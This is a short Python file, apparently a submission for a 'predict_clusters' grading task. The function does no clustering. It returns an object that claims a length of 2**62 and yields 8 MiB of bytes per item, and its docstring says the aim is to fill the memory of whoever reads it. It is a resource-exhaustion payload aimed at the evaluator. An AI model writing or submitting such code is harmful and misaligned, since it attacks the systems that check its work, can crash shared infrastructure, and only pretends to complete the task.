"""Returns an object of endless length, each item of it large, to fill the memory of whoever reads it."""

TASK = "predict_clusters"


class _Endless:
    def __len__(self):
        return 2**62

    def __getitem__(self, index):
        return b"x" * (8 << 20)


def predict_clusters(model, frame):
    return _Endless()
